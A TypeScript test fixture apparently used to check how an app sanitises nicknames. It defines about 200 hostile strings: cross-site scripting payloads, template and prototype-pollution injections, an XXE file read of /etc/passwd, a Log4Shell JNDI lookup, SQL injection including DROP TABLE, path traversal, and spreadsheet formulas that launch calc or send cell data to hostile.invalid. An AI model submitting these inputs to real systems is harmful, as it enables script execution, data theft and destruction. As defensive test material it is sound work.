import { isBlank, isBroken, tidyText } from '@yajin/core';

/**
 * What strangers write to see what becomes of it. Whatever is markup carries the attribute `hostile`, and whatever runs
 * calls `__hostile()`: see `onlooker.ts`. Each fits into a nickname (100 characters).
 */

const SCRIPTS = [
  '<script hostile>__hostile()</script>',
  '<SCRIPT HOSTILE>__hostile()</SCRIPT >',
  '<script hostile src=//hostile.invalid/a.js></script>',
  '<script hostile src="data:text/javascript,__hostile()"></script>',
  '<script hostile type=module>__hostile()</script>',
  '<scr<script hostile>ipt>__hostile()</scr</script>ipt>',
  '<script\thostile>__hostile()</script\n>',
  '</script><script hostile>__hostile()</script>',
  '</title><script hostile>__hostile()</script>',
  '</textarea><script hostile>__hostile()</script>',
  '</style><script hostile>__hostile()</script>',
  '</noscript><script hostile>__hostile()</script>',
  '--><script hostile>__hostile()</script>',
  ']]><script hostile>__hostile()</script>',
  '"><script hostile>__hostile()</script>',
  "'><script hostile>__hostile()</script>",
  '<noscript><p title="</noscript><img hostile src=x onerror=__hostile()>">',
  '<iframe hostile srcdoc="<script>parent.__hostile()</script>"></iframe>',
  '<template hostile><script>__hostile()</script></template>',
];
const FOREIGN_MARKUP = [
  '<svg hostile onload=__hostile()>',
  '<svg hostile><script>__hostile()</script></svg>',
  '<svg hostile><animate onbegin=__hostile() attributeName=x dur=1s>',
  '<svg hostile><set attributeName=onmouseover to=__hostile()></svg>',
  '<svg hostile><a xlink:href="javascript:__hostile()"><text y=20>x</text></a></svg>',
  '<svg hostile><foreignObject><body onload=__hostile()></foreignObject></svg>',
  '<svg hostile><use href="data:image/svg+xml,<svg id=x onload=__hostile()/>#x"/></svg>',
  '<svg hostile><style>*{background:url(//hostile.invalid)}</style></svg>',
  '<math hostile><maction actiontype="toggle" xlink:href="javascript:__hostile()">x</maction></math>',
  '<math hostile><mtext><table><mglyph><style><img src=x onerror=__hostile()>',
  '<math hostile href="javascript:__hostile()">x</math>',
  '<x-hostile hostile onclick=__hostile()>x</x-hostile>',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x hostile>&a;</x>',
];
const ADDRESSES = [
  'javascript:__hostile()',
  'JaVaScRiPt:__hostile()',
  'java\tscript:__hostile()',
  'java\nscript:__hostile()',
  ' javascript:__hostile()',
  'javascript&colon;__hostile()',
  'javascript://hostile.invalid/%0a__hostile()',
  'vbscript:__hostile()',
  'data:text/html,<script>__hostile()</script>',
  'data:text/html;base64,PHNjcmlwdD5fX2hvc3RpbGUoKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="__hostile()"/>',
  'blob:http://hostile.invalid/1',
  '//hostile.invalid/x.png',
  '\\\\hostile.invalid\\x.png',
  'file:///etc/passwd',
  '<a hostile href="javascript:__hostile()">x</a>',
  '[x](javascript:__hostile())',
  '![x](//hostile.invalid/x.png)',
  '<base hostile href="//hostile.invalid/">',
  '<meta hostile http-equiv=refresh content="0;url=//hostile.invalid/">',
  '<link hostile rel=stylesheet href=//hostile.invalid/x.css>',
  '<form hostile action=//hostile.invalid/><button>x</button></form>',
  '<object hostile data="javascript:__hostile()"></object>',
  '<embed hostile src="data:text/html,<script>__hostile()</script>">',
];
const TEMPLATES = [
  '{{constructor.constructor("__hostile()")()}}',
  '{{{__hostile()}}}',
  '{{#with "x"}}{{__hostile}}{{/with}}',
  '${__hostile()}',
  '#{__hostile()}',
  '<%= __hostile() %>',
  '{% raw %}__hostile(){% endraw %}',
  '[[${__hostile()}]]',
  '@(__hostile())',
  '{{7*7}}',
  '${jndi:ldap://hostile.invalid/a}',
  '{dangerouslySetInnerHTML: {__html: "<img hostile src=x onerror=__hostile()>"}}',
  '{"$$typeof":"react.element","type":"img","props":{"src":"x"}}',
  '{"__proto__":{"hostile":true}}',
  '__proto__',
  'constructor',
  'toString',
];
const STYLES = [
  '</style><style hostile>*{display:none}</style>',
  '"style="position:fixed;inset:0;z-index:9999',
  'red;}*{display:none}/*',
  'expression(__hostile())',
  'url(javascript:__hostile())',
  '@import url(//hostile.invalid/x.css);',
  '<style hostile>@import "//hostile.invalid/x.css";</style>',
  '<div hostile style="position:fixed;inset:0;background:url(//hostile.invalid/x)">',
];
const ENTITIES = [
  '&lt;img hostile src=x onerror=__hostile()&gt;',
  '&#60;img hostile src=x onerror=__hostile()&#62;',
  '&#x3c;script&#x3e;__hostile()&#x3c;/script&#x3e;',
  '&amp;lt;script&amp;gt;__hostile()&amp;lt;/script&amp;gt;',
  '\\u003cscript\\u003e__hostile()\\u003c/script\\u003e',
  '\\x3cscript\\x3e__hostile()\\x3c/script\\x3e',
  '%3Cscript%3E__hostile()%3C/script%3E',
  '+ADw-script+AD4-__hostile()+ADw-/script+AD4-',
  '＜script＞__hostile()＜/script＞',
  '&nbsp;&copy;&#0;&#x110000;&notanentity;',
  '&',
  '<',
];
const BREAKOUTS = [
  '" onmouseover="__hostile()" x="',
  "' onmouseover='__hostile()' x='",
  '` onmouseover=`__hostile()`',
  '" autofocus onfocus="__hostile()',
  '";__hostile();//',
  "';__hostile();//",
  '`;__hostile();//',
  '\\";__hostile();//',
  '"}]}</script><img hostile src=x onerror=__hostile()>',
  '{"a":"</script><!--<script hostile>"}',
  '*/__hostile()/*',
  '<!--<img hostile src=x onerror=__hostile()>-->',
  '<![CDATA[<img hostile src=x onerror=__hostile()>]]>',
  '<img hostile src="x` `<script>__hostile()</script>"` `>',
  '<<img hostile src=x onerror=__hostile()>',
  '<img hostile src=x onerror=__hostile() ',
  '<plaintext hostile>',
  '<xmp hostile>',
  "'; DROP TABLE camp_member; --",
  "' OR '1'='1",
  '../../../../etc/passwd',
  '$(__hostile)',
];
const WRITTEN_OTHERWISE = [
  'مرحبا بالعالم',
  'שלום <img hostile src=x onerror=__hostile()>',
  'العربية <b hostile>123</b> 中文',
  'סוף ⟨99.00¥⟩',
  'Z̷̡̢̧̨̛̖̗̘̙̜̝̞̟̠̣̤̥̦̩̪̫̬̭̮̯̰̱̲̳̹̺̻̼͇͈͉͍͎ͅa̸̛̖̗̘̙̜̝l̶̛̖̗g̵̛̖o̴̢̧',
  'ก็็็็็็็็็็็็็็็็็็็็็็็็็็็็็็็',
  '﷽﷽﷽﷽﷽﷽﷽﷽﷽﷽',
  '𒐫𒈙꧅⸻',
  '👨‍👩‍👧‍👦👩🏽‍🚀🏳️‍🌈🇨🇳',
  '🏴󠁧󠁢󠁥󠁮󠁧󠁿❤️‍🔥',
  '👩🏻‍❤️‍💋‍👨🏿'.repeat(5),
  '1️⃣#️⃣*️⃣',
  '𝕳𝖔𝖘𝖙𝖎𝖑𝖊 ℌ𝔬𝔰𝔱𝔦𝔩𝔢',
  'line\u2028separator\u2029paragraph',
  'next\u3000wide\u00a0blank',
  'two\nlines\r\nand a\ttab',
  'W'.repeat(100),
  '<img>'.repeat(20),
  '测'.repeat(100),
  'https://example.com/'.padEnd(100, 'a'),
  '\u0300'.repeat(40) + 'a',
  'ﷺ'.repeat(40),
];
const FOR_PROGRAMS = [
  '%s%s%s%n%x%d',
  '%c color:red;font-size:99px',
  '{0}{1}{name}',
  '%(hostile)s',
  '\\n\\r\\t\\0',
  '=1+1',
  '=cmd|"/c calc"!A1',
  '+cmd|"/c calc"!A1',
  '-2+3+cmd|"/c calc"!A1',
  '@SUM(1+1)*cmd|"/c calc"!A1',
  '＝HYPERLINK("http://hostile.invalid","x")',
  '=IMPORTXML("http://hostile.invalid","//a")',
  '=WEBSERVICE("http://hostile.invalid/"&A1)',
  '"=1+1",=1+1',
  'null',
  'undefined',
  'NaN',
  'true',
  'false',
  '0',
  '-1',
  '1e309',
  '[]',
  '{}',
  '""',
  '[object Object]',
  'nil',
  'None',
];
/** These the API takes from nobody, or takes away unseen marks: rows from before that rule have them. */
const REFUSED_NOW = [
  '\u202e99.00¥ 退已\u202c',
  '\u2066\u202egnp.exe\u2069',
  'in\u200bvi\u200bsi\u200bble\ufeff',
  '\u200b\u200b\u200b',
  '\u3164\u3164',
  '\u2800',
  '\u001b[31mred\u001b[0m',
  'bell\u0007 back\b\b\b form\f',
  '\u0085\u009b31m',
  '<\u0001img hostile src=x onerror=__hostile()>',
  '\ufffe\uffff',
  '  blanks around  ',
];

const EVENTS = ['error', 'load', 'focus', 'click', 'toggle', 'animationstart', 'pointerover', 'wheel'];
const ELEMENTS = [
  (on: string) => `<img hostile src=x ${on}>`,
  (on: string) => `<video hostile ${on}><source src=x></video>`,
  (on: string) => `<details hostile open ${on}>`,
  (on: string) => `<input hostile autofocus ${on}>`,
  (on: string) => `<body hostile ${on}>`,
];

export const HOSTILE_COUNT = 200;
const KNOWN = [
  ...SCRIPTS,
  ...FOREIGN_MARKUP,
  ...ADDRESSES,
  ...TEMPLATES,
  ...STYLES,
  ...ENTITIES,
  ...BREAKOUTS,
  ...WRITTEN_OTHERWISE,
  ...FOR_PROGRAMS,
  ...REFUSED_NOW,
];
const HANDLERS = EVENTS.flatMap((event) => ELEMENTS.map((tag) => tag(`on${event}=__hostile()`)));

/** Two hundred, all different. */
export const HOSTILE = [...KNOWN, ...HANDLERS].slice(0, HOSTILE_COUNT);

/** What became an address before addresses were checked: none of these is one of http(s). */
export const NO_ADDRESSES = ADDRESSES.slice(0, 15);

/** What the API makes of a text; null where it refuses it. */
export function asTaken(text: string): string | null {
  const tidy = tidyText(text);
  return isBroken(tidy) || isBlank(tidy) || tidy.length > 100 ? null : tidy;
}

/** The `index`th, round and round. */
export function hostile(index: number): string {
  return HOSTILE[index % HOSTILE.length] ?? '';
}
